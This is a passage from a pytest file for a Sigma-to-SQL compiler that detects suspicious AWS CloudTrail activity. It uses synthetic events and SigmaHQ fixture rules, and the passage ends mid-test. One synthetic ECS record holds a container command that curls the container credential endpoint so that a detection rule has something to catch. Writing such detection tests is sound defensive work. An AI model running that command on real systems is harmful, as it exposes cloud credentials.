"""Sigma compiler: field mapping, modifiers, conditions, case rules, errors; SigmaHQ fixtures."""

from __future__ import annotations

import json
import re
from pathlib import Path

import duckdb
import pytest
import sqlglot
from hypothesis import given, settings
from hypothesis import strategies as st

from iamkit.trail import dialect as render
from iamkit.trail import store
from iamkit.trail.detect.rules import load_file
from iamkit.trail.detect.sigma import SigmaError, compile_rule, parse_rule, to_sql
from iamkit.trail.detect.synth import at, policy, record, root, session, user

FIXTURES = Path(__file__).parent / "fixtures"
DUCK, TRINO = render.get("duckdb"), render.get("trino")


def _records() -> list[dict]:
    return [
        record(
            "StopLogging",
            "cloudtrail.amazonaws.com",
            user("alice", "AKIAALICE"),
            at(0),
            event_id="stop",
            rp={"name": "main-trail"},
        ),
        record(
            "UpdateFunctionConfiguration20150331v2",
            "lambda.amazonaws.com",
            user("bob"),
            at(1),
            event_id="lambda",
            rp={"functionName": "f", "layers": ["arn:aws:lambda:us-east-1:1:layer:x:1"]},
        ),
        record("UpdateFunctionConfigurationX", "lambda.amazonaws.com", user("bob"), at(2), event_id="lambda_x"),
        record(
            "CreateAccessKey",
            "iam.amazonaws.com",
            user("alice"),
            at(3),
            event_id="key_other",
            rp={"userName": "bob"},
            re={"accessKey": {"userName": "bob", "accessKeyId": "AKIANEW1"}},
        ),
        record(
            "CreateAccessKey",
            "iam.amazonaws.com",
            user("bob"),
            at(4),
            event_id="key_self",
            rp={"userName": "bob"},
            re={"accessKey": {"userName": "Bob", "accessKeyId": "AKIANEW2"}},
        ),
        record(
            "ListBuckets",
            "s3.amazonaws.com",
            root(),
            at(5),
            event_id="root_list",
            ip="203.0.113.9",
            ua="Mozilla/5.0 (*special*) 100%_done",
        ),
        record(
            "GetObject",
            "s3.amazonaws.com",
            session("Admin", "i-0abc"),
            at(6),
            event_id="session_get",
            ip="10.1.2.3",
            error="AccessDenied",
            rp={"bucketName": "b", "size": 42, "public": False},
        ),
        record(
            "PutBucketPublicAccessBlock",
            "s3.amazonaws.com",
            user("carol"),
            at(7),
            event_id="pab",
            rp={"PublicAccessBlockConfiguration": {"RestrictPublicBuckets": False, "BlockPublicAcls": True}},
        ),
        record(
            "ConsoleLogin",
            "signin.amazonaws.com",
            user("dave"),
            at(8),
            event_id="login",
            re={"ConsoleLogin": "Success"},
            extra={"additionalEventData": {"MFAUsed": "No"}},
        ),
        record(
            "PutUserPolicy",
            "iam.amazonaws.com",
            user("eve"),
            at(9),
            event_id="inline",
            rp={
                "userName": "eve",
                "policyName": "p",
                "policyDocument": '{"Version": "2012-10-17", "Statement": [{"Effect": "Allow", '
                '"Action": "*", "Resource": "*"}]}',
            },
        ),
        record(
            "UpdateLoginProfile",
            "iam.amazonaws.com",
            user("frank"),
            at(10),
            event_id="login_profile_other",
            rp={"userName": "grace"},
        ),
        record(
            "UpdateLoginProfile",
            "iam.amazonaws.com",
            user("frank"),
            at(11),
            event_id="login_profile_self",
            rp={"userName": "arn:aws:iam::111111111111:user/frank"},
        ),
    ]


@pytest.fixture(scope="module")
def con():
    c = duckdb.connect()
    store.insert_records(c, _records())
    yield c
    c.close()


def rule(detection: dict, **extra) -> object:
    return parse_rule(
        {
            "title": "t",
            "id": "t",
            "logsource": {"product": "aws", "service": "cloudtrail"},
            "detection": detection,
            **extra,
        }
    )


def hits(con, detection: dict) -> set[str]:
    """Event ids the detection matches on DuckDB; also checks the Trino rendering parses."""
    r = rule(detection)
    where = compile_rule(r, DUCK).where
    sqlglot.parse_one(to_sql(r, TRINO)[0], read="trino")
    return {x[0] for x in con.execute(f"SELECT event_id FROM events WHERE {where}").fetchall()}


def test_equality_is_case_insensitive(con):
    assert hits(con, {"s": {"eventName": "stoplogging"}, "condition": "s"}) == {"stop"}
    assert hits(con, {"s": {"eventSource": "CLOUDTRAIL.amazonaws.com"}, "condition": "s"}) == {"stop"}


def test_list_values_are_or(con):
    assert hits(con, {"s": {"eventName": ["StopLogging", "ListBuckets"]}, "condition": "s"}) == {"stop", "root_list"}


def test_fields_of_one_selection_are_and(con):
    assert hits(
        con, {"s": {"eventName": "CreateAccessKey", "userIdentity.arn|endswith": "/bob"}, "condition": "s"}
    ) == {"key_self"}


def test_api_version_suffix_matches_the_plain_name(con):
    det = {"s": {"eventName": "UpdateFunctionConfiguration"}, "condition": "s"}
    assert hits(con, det) == {"lambda"}
    det = {"s": {"eventName": ["UpdateFunctionConfiguration", "StopLogging"]}, "condition": "s"}
    assert hits(con, det) == {"lambda", "stop"}


def test_contains_startswith_endswith(con):
    assert hits(con, {"s": {"userAgent|contains": "MOZILLA"}, "condition": "s"}) == {"root_list"}
    assert hits(con, {"s": {"eventName|startswith": "UpdateFunction"}, "condition": "s"}) == {"lambda", "lambda_x"}
    assert hits(con, {"s": {"eventName|endswith": "v2"}, "condition": "s"}) == {"lambda"}


def test_like_metacharacters_in_values_are_literal(con):
    assert hits(con, {"s": {"userAgent|contains": "100%_done"}, "condition": "s"}) == {"root_list"}
    assert hits(con, {"s": {"userAgent|contains": "100%Xdone"}, "condition": "s"}) == set()
    assert hits(con, {"s": {"userAgent|contains": "_done"}, "condition": "s"}) == {"root_list"}


def test_sigma_wildcards_and_escapes(con):
    assert hits(con, {"s": {"eventName": "Stop*"}, "condition": "s"}) == {"stop"}
    assert hits(con, {"s": {"eventName": "StopLoggin?"}, "condition": "s"}) == {"stop"}
    assert hits(con, {"s": {"userAgent|contains": "(\\*special\\*)"}, "condition": "s"}) == {"root_list"}
    assert hits(con, {"s": {"userAgent|contains": "(\\*spec\\*)"}, "condition": "s"}) == set()


def test_contains_all(con):
    det = {
        "s": {"requestParameters.policyDocument|contains|all": ['"Effect": "Allow"', '"Action": "*"']},
        "condition": "s",
    }
    assert hits(con, det) == {"inline"}
    det["s"]["requestParameters.policyDocument|contains|all"].append('"Action": "s3:*"')
    assert hits(con, det) == set()


def test_regex_is_case_sensitive_unless_i(con):
    assert hits(con, {"s": {"userIdentity.arn|re": ":assumed-role/Admin/i-[0-9a-f]+$"}, "condition": "s"}) == {
        "session_get"
    }
    assert hits(con, {"s": {"userIdentity.arn|re": ":assumed-role/admin/"}, "condition": "s"}) == set()
    assert hits(con, {"s": {"userIdentity.arn|re|i": ":assumed-role/admin/"}, "condition": "s"}) == {"session_get"}


def test_cidr(con):
    assert hits(con, {"s": {"sourceIPAddress|cidr": "10.0.0.0/8"}, "condition": "s"}) == {"session_get"}
    assert hits(con, {"s": {"sourceIPAddress|cidr": "203.0.112.0/23"}, "condition": "s"}) == {"root_list"}
    assert hits(con, {"s": {"sourceIPAddress|cidr": "203.0.112.0/24"}, "condition": "s"}) == set()


def test_cidr_edges_and_ipv6():
    """pySigma expands a network into prefixes: exactly the network, IPv6 included."""
    c = duckdb.connect()
    ips = {
        "a": "192.168.4.1",
        "b": "192.168.7.255",
        "c": "192.168.8.0",
        "d": "192.168.3.9",
        "e": "1.2.3.4",
        "f": "1.2.3.40",
        "v6": "2001:DB8::1",
        "v6_out": "2001:db9::1",
    }
    store.insert_records(
        c,
        [
            record("GetCallerIdentity", "sts.amazonaws.com", user("x"), at(i), event_id=k, ip=ip)
            for i, (k, ip) in enumerate(ips.items())
        ],
    )
    assert hits(c, {"s": {"sourceIPAddress|cidr": "192.168.4.0/22"}, "condition": "s"}) == {"a", "b"}
    assert hits(c, {"s": {"sourceIPAddress|cidr": "1.2.3.4/32"}, "condition": "s"}) == {"e"}
    assert hits(c, {"s": {"sourceIPAddress|cidr": "2001:db8::/32"}, "condition": "s"}) == {"v6"}
    c.close()


def test_exists_and_null(con):
    assert hits(con, {"s": {"errorCode|exists": True}, "condition": "s"}) == {"session_get"}
    assert len(hits(con, {"s": {"errorCode|exists": False}, "condition": "s"})) == len(_records()) - 1
    assert hits(con, {"s": {"eventName": "GetObject", "errorCode": None}, "condition": "s"}) == set()
    assert hits(con, {"s": {"eventName": "StopLogging", "errorCode": None}, "condition": "s"}) == {"stop"}


def test_nested_json_fields_numbers_and_booleans(con):
    assert hits(con, {"s": {"requestParameters.bucketName": "B"}, "condition": "s"}) == {"session_get"}
    assert hits(con, {"s": {"requestParameters.size": 42}, "condition": "s"}) == {"session_get"}
    assert hits(con, {"s": {"requestParameters.size|gte": 40}, "condition": "s"}) == {"session_get"}
    assert hits(con, {"s": {"requestParameters.size|lt": 40}, "condition": "s"}) == set()
    assert hits(con, {"s": {"requestParameters.public": False}, "condition": "s"}) == {"session_get"}
    det = {"s": {"requestParameters.PublicAccessBlockConfiguration.RestrictPublicBuckets": "false"}, "condition": "s"}
    assert hits(con, det) == {"pab"}


def test_identity_fields_use_columns(con):
    assert hits(con, {"s": {"userIdentity.type": "root"}, "condition": "s"}) == {"root_list"}
    assert hits(
        con, {"s": {"userIdentity.sessionContext.sessionIssuer.arn|endswith": ":role/Admin"}, "condition": "s"}
    ) == {"session_get"}
    assert hits(con, {"s": {"userIdentity.sessionContext.attributes.mfaAuthenticated": "false"}, "condition": "s"}) == {
        "session_get"
    }
    w = compile_rule(rule({"s": {"userIdentity.type": "Root"}, "condition": "s"}), DUCK).where
    assert "identity_type" in w and "json" not in w


def test_fieldref(con):
    det = {
        "s": {"eventName": "UpdateLoginProfile"},
        "f": {"userIdentity.arn|fieldref": "requestParameters.userName"},
        "condition": "s and not f",
    }
    assert hits(con, det) == {"login_profile_other"}
    det = {
        "s": {"eventName": "CreateAccessKey"},
        "f": {"userIdentity.arn|fieldref|contains": "responseElements.accessKey.userName"},
        "condition": "s and not f",
    }
    assert hits(con, det) == {"key_other"}  # 'Bob' vs '.../bob': case-insensitive


def test_condition_operators(con):
    base = {"a": {"eventName": "StopLogging"}, "b": {"eventName": "ListBuckets"}, "c": {"userIdentity.type": "Root"}}
    assert hits(con, {**base, "condition": "a or b and c"}) == {"stop", "root_list"}
    assert hits(con, {**base, "condition": "(a or b) and not c"}) == {"stop"}
    assert hits(con, {**base, "condition": "not (a or b or c)"}) == {r["eventID"] for r in _records()} - {
        "stop",
        "root_list",
    }
    assert hits(con, {**base, "condition": "a AND NOT c"}) == {"stop"}


def test_quantifiers(con):
    det = {
        "sel_a": {"eventName": "StopLogging"},
        "sel_b": {"eventName": "ListBuckets"},
        "_hidden": {"eventName": "GetObject"},
        "filter": {"userIdentity.type": "Root"},
    }
    assert hits(con, {**det, "condition": "1 of sel_*"}) == {"stop", "root_list"}
    assert hits(con, {**det, "condition": "all of sel_*"}) == set()
    assert hits(con, {**det, "condition": "1 of them"}) == {"stop", "root_list"}
    assert hits(con, {**det, "condition": "all of sel_b or all of them"}) == {"root_list"}
    assert hits(con, {**det, "condition": "any of sel_* and not 1 of filter*"}) == {"stop"}


def test_list_of_maps_is_or(con):
    det = {"s": [{"eventName": "StopLogging"}, {"userIdentity.type": "Root"}], "condition": "s"}
    assert hits(con, det) == {"stop", "root_list"}


def test_condition_list_is_or(con):
    det = {"a": {"eventName": "StopLogging"}, "b": {"eventName": "ListBuckets"}, "condition": ["a", "b"]}
    assert hits(con, det) == {"stop", "root_list"}


def test_unknown_field_is_absent_with_a_warning(con):
    r = rule({"s": {"eventName": "ConsoleLogin", "status": "success"}, "condition": "s"})
    comp = compile_rule(r, DUCK)
    assert comp.warnings and "status" in comp.warnings[0]
    assert hits(con, {"s": {"eventName": "ListBuckets"}, "f": {"type": "AssumedRole"}, "condition": "s and not f"}) == {
        "root_list"
    }


@pytest.mark.parametrize(
    "detection, message",
    [
        ({"s": {"eventName": "x"}, "condition": "s | count() by userIdentity.arn > 5 and x"}, "aggregation"),
        ({"s": {"eventName|nosuchmodifier": "x"}, "condition": "s"}, "nosuchmodifier"),
        ({"s": {"eventName|expand": "%x%"}, "condition": "s"}, "placeholder %x%"),
        ({"s": {"eventTime|minute": 5}, "condition": "s"}, "time-part"),
        ({"s": ["mimikatz", "x"], "condition": "s"}, "keyword"),
        ({"s": {"eventName": "x"}, "condition": "s and missing"}, "'missing' not defined"),
        ({"s": {"eventName": "x"}, "condition": "(s"}, "Unbalanced parentheses"),
        ({"s": {"eventName": "x"}, "condition": "1 of nothing_*"}, "doesn't match any detection"),
        ({"s": {"eventName": "x"}, "condition": "s and"}, "found end of text"),
        ({"s": {"eventName|re": "(unclosed"}, "condition": "s"}, "Regular expression '(unclosed' is invalid"),
        ({"s": {"sourceIPAddress|cidr": "not-a-net"}, "condition": "s"}, "Invalid CIDR"),
        ({"s": {"errorCode|exists": "true"}, "condition": "s"}, "SigmaExistsModifier"),
        ({"s": {"eventName": "x"}, "condition": "not " * 3000 + "s"}, "nested too deeply"),
    ],
)
def test_unsupported_constructs_raise_clear_errors(detection, message):
    with pytest.raises(SigmaError, match=re.escape(message)):
        compile_rule(rule(detection), DUCK)  # parse_rule (pySigma's checks) or the backend: one line each


def test_parse_rule_rejects_broken_documents():
    with pytest.raises(SigmaError, match="detection"):
        parse_rule({"title": "x"})
    with pytest.raises(SigmaError, match="condition"):
        parse_rule({"title": "x", "detection": {"s": {"a": 1}}})
    with pytest.raises(SigmaError, match="log source"):
        parse_rule({"title": "x", "detection": {"s": {"a": 1}, "condition": "s"}})
    assert (
        parse_rule(
            {
                "title": "x",
                "level": "informational",
                "logsource": {"product": "aws"},
                "detection": {"s": {"a": 1}, "condition": "s"},
            }
        ).level
        == "info"
    )


def test_windash_is_ignored(con):
    assert hits(con, {"s": {"eventName|windash": "StopLogging"}, "condition": "s"}) == {"stop"}


# ---------------------------------------------------------------- wildcard semantics vs an oracle


def _oracle(pattern: str, text: str) -> bool:
    """Sigma semantics in Python: * any, ? one, backslash escapes *, ? and itself; case-insensitive."""
    out, i = [], 0
    while i < len(pattern):
        ch = pattern[i]
        if ch == "\\" and i + 1 < len(pattern) and pattern[i + 1] in "*?\\":
            out.append(re.escape(pattern[i + 1]))
            i += 2
            continue
        out.append(".*" if ch == "*" else "." if ch == "?" else re.escape(ch))
        i += 1
    return re.fullmatch("".join(out), text, flags=re.S | re.I) is not None


_alphabet = st.sampled_from(list("aAb%_*?\\'. "))


_TEXTS = [
    "",
    "a",
    "A",
    "ab",
    "aAb",
    "%",
    "_",
    "*",
    "?",
    "\\",
    "'",
    "a.b",
    "a b",
    "a%b",
    "a_b",
    "a*b",
    "a?b",
    "a\\b",
    "ba",
    "bab",
    "aa",
    "%_",
    "*?",
    "A%B_",
    "''",
    "a\\*",
    "abAB",
]


@settings(max_examples=150, deadline=None)
@given(pattern=st.text(_alphabet, max_size=6))
def test_value_matching_agrees_with_sigma_semantics(pattern, con):
    """One query per pattern over a fixed set of tricky texts (LIKE metacharacters, quotes, escapes)."""
    r = rule({"s": {"userAgent": pattern}, "condition": "s"})
    where = compile_rule(r, DUCK).where
    rows = con.execute(
        f"SELECT user_agent FROM (SELECT unnest(?::VARCHAR[]) AS user_agent) WHERE {where}", [_TEXTS]
    ).fetchall()
    assert {x[0] for x in rows} == {t for t in _TEXTS if _oracle(pattern, t)}


# ---------------------------------------------------------------- SigmaHQ rules as they are

SIGMA_FILES = sorted((FIXTURES / "sigma").glob("*.yml"))


def test_at_least_fifteen_sigmahq_fixtures():
    assert len(SIGMA_FILES) >= 15 and not [p for p in SIGMA_FILES if "unsupported" in p.parts]


@pytest.mark.parametrize("path", SIGMA_FILES, ids=lambda p: p.stem)
def test_sigmahq_rule_compiles_runs_and_parses_as_trino(path, con):
    [r] = load_file(path)
    assert r.kind == "sigma"
    duck_sql, _ = to_sql(r.sigma, DUCK)
    trino_sql, _ = to_sql(r.sigma, TRINO)
    con.execute(duck_sql).fetchall()
    sqlglot.parse_one(trino_sql, read="trino")
    sqlglot.parse_one(duck_sql, read="duckdb")


def _fixture_hits(con, name: str) -> set[str]:
    [r] = load_file(FIXTURES / "sigma" / f"{name}.yml")
    where = compile_rule(r.sigma, DUCK).where
    return {x[0] for x in con.execute(f"SELECT event_id FROM events WHERE {where}").fetchall()}


def test_sigmahq_rules_match_what_they_describe(con):
    assert _fixture_hits(con, "aws_cloudtrail_disable_logging") == {"stop"}
    assert _fixture_hits(con, "aws_attached_malicious_lambda_layer") == {"lambda", "lambda_x"}
    assert _fixture_hits(con, "aws_root_account_usage") == {"root_list"}
    assert _fixture_hits(con, "aws_update_login_profile") == {"login_profile_other"}
    assert _fixture_hits(con, "aws_cloudtrail_bucket_block_public_access_weakened") == {"pab"}
    assert _fixture_hits(con, "aws_iam_privileged_inline_policy_creation") == {"inline"}
    assert _fixture_hits(con, "aws_enum_buckets") == {"root_list"}
    # literal 'contains' in the old backdoor rule: no record holds that text, so every key creation is kept
    assert _fixture_hits(con, "aws_iam_backdoor_users_keys") == {"key_other", "key_self"}


def test_imds_rule_regex_and_filters():
    c = duckdb.connect()
    store.insert_records(
        c,
        [
            record("ListBuckets", "s3.amazonaws.com", session("aws:ec2-instance", "i-1"), at(0), event_id="pivot"),
            record(
                "RegisterManagedInstance",
                "ssm.amazonaws.com",
                session("aws:ec2-instance", "i-1"),
                at(1),
                event_id="ssm",
            ),
            record(
                "ListBuckets",
                "s3.amazonaws.com",
                session("aws:ec2-instance", "i-1"),
                at(2),
                event_id="internal",
                ip="AWS Internal",
            ),
            record("ListBuckets", "s3.amazonaws.com", session("Admin", "x"), at(3), event_id="plain"),
        ],
    )
    assert _fixture_hits(c, "aws_cloudtrail_imds_malicious_usage") == {"pivot"}
    c.close()


def test_policy_document_helper_roundtrips():
    assert '"Action": "*"' in policy({"Effect": "Allow", "Action": "*", "Resource": "*"})


def test_exists_false(con):
    assert "session_get" not in hits(con, {"s": {"errorCode|exists": False}, "condition": "s"})


# ---------------------------------------------------------------- conditions vs Python's own precedence

_SELECTIONS = {
    "a": {"eventName": "StopLogging"},
    "b": {"userIdentity.type": "Root"},
    "c": {"eventSource": "s3.amazonaws.com"},
    "d": {"errorCode|exists": True},
}


def _expr(depth: int):
    leaf = st.sampled_from(sorted(_SELECTIONS))
    if depth == 0:
        return leaf
    sub = _expr(depth - 1)
    return st.one_of(
        leaf,
        st.tuples(st.just("not"), sub).map(lambda t: f"not {t[1]}"),
        st.tuples(sub, st.sampled_from(["and", "or"]), sub).map(lambda t: f"{t[0]} {t[1]} {t[2]}"),
        sub.map(lambda t: f"({t})"),
    )


@settings(max_examples=120, deadline=None)
@given(text=_expr(3))
def test_condition_precedence_matches_python(text, con):
    rows = con.execute("SELECT event_id, event_name, identity_type, event_source, error_code FROM events").fetchall()
    truth = {
        r[0]: {"a": r[1] == "StopLogging", "b": r[2] == "Root", "c": r[3] == "s3.amazonaws.com", "d": r[4] is not None}
        for r in rows
    }
    expected = {eid: eval(text, {}, env) for eid, env in truth.items()}  # noqa: S307 - generated text
    got = hits(con, {**_SELECTIONS, "condition": text})
    assert got == {eid for eid, v in expected.items() if v}


def test_whole_subtree_matching_and_contains_star():
    c = duckdb.connect()
    doc = policy({"Effect": "Allow", "Action": ["s3:GetObject"], "Resource": ["arn:aws:s3:::<YOUR-BUCKET-NAME>/*"]})
    store.insert_records(
        c,
        [
            record(
                "PutUserPolicy",
                "iam.amazonaws.com",
                user("x"),
                at(0),
                ua="S3 Browser 9.5.5",
                event_id="s3b",
                rp={"userName": "x", "policyName": "p", "policyDocument": doc},
            ),
            record(
                "PutUserPolicy",
                "iam.amazonaws.com",
                user("x"),
                at(1),
                ua="aws-cli/2",
                event_id="cli",
                rp={"userName": "x", "policyName": "p", "policyDocument": doc},
            ),
            record(
                "CreateInstanceExportTask",
                "ec2.amazonaws.com",
                user("x"),
                at(2),
                event_id="export_ok",
                re={"exportTask": {"state": "active"}},
            ),
            record(
                "CreateInstanceExportTask",
                "ec2.amazonaws.com",
                user("x"),
                at(3),
                event_id="export_denied",
                error="AccessDenied",
            ),
            record(
                "CreateInstanceExportTask",
                "ec2.amazonaws.com",
                user("x"),
                at(4),
                event_id="export_failed",
                re={"exportTask": {"state": "Failure"}},
            ),
            record(
                "RestoreDBInstanceFromDBSnapshot",
                "rds.amazonaws.com",
                user("x"),
                at(5),
                event_id="public_db",
                re={"publiclyAccessible": True},
            ),
            record(
                "RestoreDBInstanceFromDBSnapshot",
                "rds.amazonaws.com",
                user("x"),
                at(6),
                event_id="private_db",
                re={"publiclyAccessible": False},
            ),
        ],
    )
    assert _fixture_hits(c, "aws_iam_s3browser_templated_s3_bucket_policy_creation") == {"s3b"}
    assert _fixture_hits(c, "aws_ec2_vm_export_failure") == {"export_ok"}
    assert _fixture_hits(c, "aws_rds_public_db_restore") == {"public_db"}
    c.close()


def test_nested_fields_inside_lists_match_any_element():
    c = duckdb.connect()
    sg = {
        "groupId": "sg-1",
        "ipPermissions": {
            "items": [
                {"ipProtocol": "tcp", "fromPort": 22, "ipRanges": {"items": [{"cidrIp": "10.0.0.0/8"}]}},
                {"ipProtocol": "tcp", "fromPort": 3389, "ipRanges": {"items": [{"cidrIp": "0.0.0.0/0"}]}},
            ]
        },
    }
    closed = {
        "groupId": "sg-2",
        "ipPermissions": {
            "items": [{"ipProtocol": "tcp", "fromPort": 22, "ipRanges": {"items": [{"cidrIp": "10.0.0.0/8"}]}}]
        },
    }
    ecs = {
        "family": "f",
        "containerDefinitions": [
            {"name": "c", "command": ["sh", "-c", "curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"]}
        ],
    }
    store.insert_records(
        c,
        [
            record("AuthorizeSecurityGroupIngress", "ec2.amazonaws.com", user("x"), at(0), rp=sg, event_id="open"),
            record(
                "AuthorizeSecurityGroupIngress", "ec2.amazonaws.com", user("x"), at(1), rp=closed, event_id="closed"
            ),
            record("RegisterTaskDefinition", "ecs.amazonaws.com", user("x"), at(2), rp=ecs, event_id="ecs"),
            record(
                "RegisterTaskDefinition",
                "ecs.amazonaws.com",
                user("x"),
                at(3),
                event_id="ecs_plain",
                rp={"family": "f", "containerDefinitions": [{"name": "c", "command": ["sleep", "1"]}]},
            ),
        ],
    )
    det = {"s": {"requestParameters.ipPermissions.items.ipRanges.items.cidrIp": "0.0.0.0/0"}, "condition": "s"}
    assert hits(c, det) == {"open"}
    det = {"s": {"requestParameters.ipPermissions.items.fromPort": [3389, 445]}, "condition": "s"}
    assert hits(c, det) == {"open"}
    det = {"s": {"requestParameters.ipPermissions.items.ipRanges.items.cidrIp|startswith": "10."}, "condition": "s"}
    assert hits(c, det) == {"open", "closed"}
    assert _fixture_hits(c, "aws_ecs_task_definition_cred_endpoint_query") == {"ecs"}
    # an object path still goes through the JSON path (and a missing key matches nothing)
    assert hits(c, {"s": {"requestParameters.groupId": "SG-2"}, "condition": "s"}) == {"closed"}
    assert hits(c, {"s": {"requestParameters.ipPermissions.nothere": "x"}, "condition": "s"}) == set()
    c.close()


_plain = st.sampled_from(list("aAb%_.' "))


@settings(max_examples=100, deadline=None)
@given(
    pattern=st.text(st.sampled_from(list("aAb%_*?.' ")), max_size=5),
    modifier=st.sampled_from(["", "|contains", "|startswith", "|endswith"]),
    docs=st.lists(
        st.lists(st.one_of(st.text(_plain, max_size=5), st.lists(st.text(_plain, max_size=5), max_size=3)), max_size=3),
        min_size=1,
        max_size=4,
    ),
)
def test_values_inside_lists_agree_with_any_element_semantics(pattern, modifier, docs, con):
    """``requestParameters.items.v`` over ``{"items": [{"v": "x"}, {"v": ["y", "z"]}]}``: a hit when any
    value matches (values without quotes or backslashes; the JSON text is what is searched)."""
    r = rule({"s": {f"requestParameters.items.v{modifier}": pattern}, "condition": "s"})
    where = compile_rule(r, DUCK).where
    texts = [json.dumps({"items": [{"v": v} for v in doc]}) for doc in docs]
    rows = con.execute(
        f"SELECT i FROM (SELECT unnest(range(len(?))) AS i, unnest(?::JSON[]) AS request_parameters) WHERE {where}",
        [texts, texts],
    ).fetchall()
    wrapped = {"": pattern, "|contains": f"*{pattern}*", "|startswith": f"{pattern}*", "|endswith": f"*{pattern}"}
    values = [[x for v in doc for x in (v if isinstance(v, list) else [v])] for doc in docs]
    expected = {i for i, vals in enumerate(values) if any(_oracle(wrapped[modifier], x) for x in vals)}
    assert {x[0] for x in rows} == expected


# ---------------------------------------------------------------- correlation rules and count() aggregations

_BASE = {"logsource": {"product": "aws", "service": "cloudtrail"}}
_SECRET_READ = {
    **_BASE,
    "title": "Secret read",
    "name": "secret_read",
    "id": "secret-read",
    "detection": {
        "s": {"eventSource": "secretsmanager.amazonaws.com", "eventName": ["GetSecretValue", "BatchGetSecretValue"]},
        "condition": "s",
    },
}


def _correlation(tmp_path, body: dict, *bases: dict) -> tuple[object, object]:
    """Write the base rules and the correlation as one multi-document file, load both through the rule
    loader (as the hunt does) and return (correlation rule, first base rule)."""
    import yaml

    corr = {**_BASE, "title": "corr", "id": "corr", "level": "high", "correlation": body}
    path = tmp_path / "corr.yml"
    path.write_text(yaml.safe_dump_all([*bases, corr], sort_keys=False))
    loaded = {r.id: r for r in load_file(path)}
    return loaded["corr"].sigma, loaded[bases[0]["id"]].sigma


def _run(c, r) -> set[str]:
    where = compile_rule(r, DUCK).where
    sqlglot.parse_one(to_sql(r, TRINO)[0], read="trino")
    return {x[0] for x in c.execute(f"SELECT event_id FROM events WHERE {where}").fetchall()}


def _secret_reads(plan: dict[str, list[float]]) -> duckdb.DuckDBPyConnection:
    c = duckdb.connect()
    store.insert_records(
        c,
        [
            record(
                "GetSecretValue",
                "secretsmanager.amazonaws.com",
                user(who),
                at(m),
                event_id=f"{who}{i}",
                rp={"secretId": f"s{i % 3}"},
            )
            for who, minutes in plan.items()
            for i, m in enumerate(minutes)
        ],
    )
    return c


def test_event_count_correlation_counts_per_group_and_time_bucket(tmp_path):
    c = _secret_reads({"alice": [0, 1, 2, 3, 4, 65, 66], "bob": [0, 1, 2], "carol": [8, 9, 11, 12]})
    body = {
        "type": "event_count",
        "rules": ["secret_read"],
        "group-by": ["userIdentity.arn"],
        "timespan": "10m",
        "condition": {"gte": 4},
    }
    corr, base = _correlation(tmp_path, body, _SECRET_READ)
    # alice: 5 in [0, 10); her 2 an hour later are another bucket; bob: 3; carol: 2 in [0, 10), 2 in [10, 20)
    assert _run(c, corr) == {"alice0", "alice1", "alice2", "alice3", "alice4"}
    assert corr.kind == "correlation" and corr.level == "high"
    # the base rule is only the correlation's (generate: false): it raises nothing of its own
    assert base.used_by == ["corr"] and _run(c, base) == set()
    body["condition"] = {"gt": 4}
    corr, _ = _correlation(tmp_path, body, _SECRET_READ)
    assert _run(c, corr) == {"alice0", "alice1", "alice2", "alice3", "alice4"}
    body["condition"] = {"gt": 5}
    corr, _ = _correlation(tmp_path, body, _SECRET_READ)
    assert _run(c, corr) == set()
    body["generate"] = True
    _, base = _correlation(tmp_path, body, _SECRET_READ)
    assert base.used_by == [] and len(_run(c, base)) == 14


def test_value_count_correlation_counts_distinct_values(tmp_path):
    # secretId cycles s0, s1, s2: alice reads 3 distinct secrets, bob 2
    c = _secret_reads({"alice": [0, 1, 2], "bob": [0, 1, 2, 3][:2]})
    body = {
        "type": "value_count",
        "rules": ["secret_read"],
        "group-by": ["userIdentity.arn"],
        "timespan": "1h",
        "condition": {"gte": 3, "field": "requestParameters.secretId"},
    }
    corr, _ = _correlation(tmp_path, body, _SECRET_READ)
    assert _run(c, corr) == {"alice0", "alice1", "alice2"}


def test_temporal_correlation_needs_every_rule_in_the_bucket(tmp_path):
    c = duckdb.connect()
    store.insert_records(
        c,
        [
            record("CreateUser", "iam.amazonaws.com", user("mallory"), at(1), event_id="m_user"),
            record("CreateAccessKey", "iam.amazonaws.com", user("mallory"), at(2), event_id="m_key"),
            record("CreateUser", "iam.amazonaws.com", user("ops"), at(1), event_id="o_user"),
            record("CreateAccessKey", "iam.amazonaws.com", user("ops"), at(400), event_id="o_key_late"),
            record("CreateAccessKey", "iam.amazonaws.com", user("dev"), at(3), event_id="d_key"),
        ],
    )
    a = {
        **_BASE,
        "title": "a",
        "name": "new_user",
        "id": "a",
        "detection": {"s": {"eventName": "CreateUser"}, "condition": "s"},
    }
    b = {
        **_BASE,
        "title": "b",
        "name": "new_key",
        "id": "b",
        "detection": {"s": {"eventName": "CreateAccessKey"}, "condition": "s"},
    }
    body = {"type": "temporal", "rules": ["new_user", "new_key"], "group-by": ["userIdentity.arn"], "timespan": "1h"}
    corr, _ = _correlation(tmp_path, body, a, b)
    assert _run(c, corr) == {"m_user", "m_key"}


def test_temporal_ordered_correlation_of_two_rules(tmp_path):
    c = duckdb.connect()
    store.insert_records(
        c,
        [
            record("CreateUser", "iam.amazonaws.com", user("mallory"), at(1), event_id="m_user"),
            record("CreateAccessKey", "iam.amazonaws.com", user("mallory"), at(2), event_id="m_key"),
            record("CreateAccessKey", "iam.amazonaws.com", user("ops"), at(1), event_id="o_key_first"),
            record("CreateUser", "iam.amazonaws.com", user("ops"), at(2), event_id="o_user_after"),
        ],
    )
    a = {
        **_BASE,
        "title": "a",
        "name": "new_user",
        "id": "a",
        "detection": {"s": {"eventName": "CreateUser"}, "condition": "s"},
    }
    b = {
        **_BASE,
        "title": "b",
        "name": "new_key",
        "id": "b",
        "detection": {"s": {"eventName": "CreateAccessKey"}, "condition": "s"},
    }
    body = {
        "type": "temporal_ordered",
        "rules": ["new_user", "new_key"],
        "group-by": ["userIdentity.arn"],
        "timespan": "1h",
    }
    corr, _ = _correlation(tmp_path, body, a, b)
    assert _run(c, corr) == {"m_user", "m_key"}  # ops created the key before the user: not in order
    assert _agree(c, corr) == 1


def test_temporal_correlation_with_field_aliases(tmp_path):
    """A user created and then signing in within the hour: the group is the new user's name, read from
    ``requestParameters.userName`` in one rule and ``userIdentity.userName`` in the other."""
    c = duckdb.connect()
    store.insert_records(
        c,
        [
            record(
                "CreateUser", "iam.amazonaws.com", user("admin"), at(0), event_id="create_bob", rp={"userName": "bob"}
            ),
            record("ConsoleLogin", "signin.amazonaws.com", user("bob"), at(20), event_id="login_bob"),
            record(
                "CreateUser", "iam.amazonaws.com", user("admin"), at(0), event_id="create_carl", rp={"userName": "carl"}
            ),
